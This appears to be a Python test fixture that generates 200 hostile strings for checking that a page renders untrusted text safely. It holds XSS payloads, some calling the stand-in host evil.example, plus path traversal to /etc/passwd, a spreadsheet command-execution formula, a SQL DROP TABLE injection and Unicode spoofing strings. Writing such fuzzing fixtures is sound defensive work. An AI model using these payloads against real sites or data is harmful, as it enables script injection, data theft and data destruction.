"""Two hundred texts that run, escape, break or deceive where a page takes foreign text for anything but text."""

from __future__ import annotations

import itertools

# What opens a way out of the place where text stands.
_BREAKS = ("", "</script>", '">', "'>", "-->", "</textarea>", "</title>", "]]>", "`}", "</style>")
# What would run, or call another origin, once out.
_ACTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus onfocus=alert(1)>",
    "<object data=//evil.example/x></object>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<video src=//evil.example/x onerror=alert(1)>",
    "<style>@import '//evil.example/x'</style>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script>",
    "<a href=//evil.example ping=//evil.example>x</a>",
)
_OTHERS = (
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    '" style="background:url(//evil.example)"',
    "{{7*7}}${7*7}<%=7*7%>",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "a\u0000b",
    "\u2028\u2029",
    "\ufeffbom",
    "__proto__",
    "constructor",
    "toString",
    "../../../etc/passwd",
    "%2e%2e%2fpasswd",
    "file:///etc/passwd",
    "=cmd|' /C calc'!A0",
    "\x1b[31mred\x1b[0m",
    "Z\u0351\u036b\u0343a" + "\u0301" * 40,
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "data:text/html,<script>alert(1)</script>",
    "😀\u200d👩",
    "<" * 150,
    "event: done\ndata: {}\n\n",
    "'; DROP TABLE parts; --",
    "null",
    "NaN",
)
HOSTILE = (*(a + b for a, b in itertools.product(_BREAKS, _ACTS)), *_OTHERS)
assert len(set(HOSTILE)) == 200
